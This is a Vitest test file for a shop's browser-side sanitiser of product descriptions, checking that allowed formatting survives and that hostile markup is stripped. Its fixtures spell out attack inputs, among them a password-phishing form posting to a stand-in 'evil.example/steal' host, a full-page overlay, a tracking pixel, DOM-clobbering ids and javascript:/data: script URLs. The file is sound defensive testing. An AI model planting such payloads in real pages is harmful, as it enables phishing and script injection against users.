import { describe, expect, it } from 'vitest';
import { sanitizeDescription } from './sanitize-description';

// The server sanitises descriptions on write (api/src/features/products/sanitize-description.ts).
// The browser sanitises again in case a row was written some other way (SQL, an old release, a
// restored backup): it must then keep to the same allowlist, not DOMPurify's much wider default,
// which lets through pictures (tracking), forms (phishing the password), style (a full-page
// overlay), ids and names (DOM clobbering of the shop's own globals).
describe('sanitizeDescription in the browser', () => {
  it('keeps the formatting the server allows', async () => {
    const html =
      '<h2>Deck</h2><p><strong>Teak</strong> and <em>oak</em></p><ul><li>one</li></ul><a href="https://example.com/spec" rel="noopener noreferrer">spec</a>';
    expect(await sanitizeDescription(html)).toBe(html);
  });

  it.each([
    ['a picture from elsewhere', '<p>x</p><img src="https://tracker.example/pixel.gif">', 'img'],
    ['a form', '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>', 'form, input, button'],
    ['inline style', '<p style="position:fixed;inset:0;background:white">Session expired</p>', '[style]'],
    ['a style element', '<style>body{display:none}</style><p>x</p>', 'style'],
    ['ids and names', '<p id="root">x</p><a name="api" href="https://example.com">y</a>', '[id], [name]'],
    ['a link opening a new window', '<a href="https://example.com" target="_blank">x</a>', '[target]'],
    ['an SVG', '<svg><a href="https://example.com"><text>x</text></a></svg>', 'svg'],
    ['a frame', '<iframe src="https://evil.example"></iframe>', 'iframe'],
    ["a class that borrows the shop's styling", '<p class="catalog-price">0,01 €</p>', '[class]'],
  ])('drops %s', async (_what, html, selector) => {
    const container = document.createElement('div');
    container.innerHTML = await sanitizeDescription(html);
    expect(container.querySelector(selector), container.innerHTML).toBeNull();
  });

  it.each([
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'tel:+4912345',
    'ftp://files.example/x',
    'vbscript:msgbox(1)',
  ])('keeps no link to %s', async (href) => {
    const container = document.createElement('div');
    container.innerHTML = await sanitizeDescription(`<a href="${href}">x</a>`);
    expect(container.querySelector('a[href]'), container.innerHTML).toBeNull();
  });
});
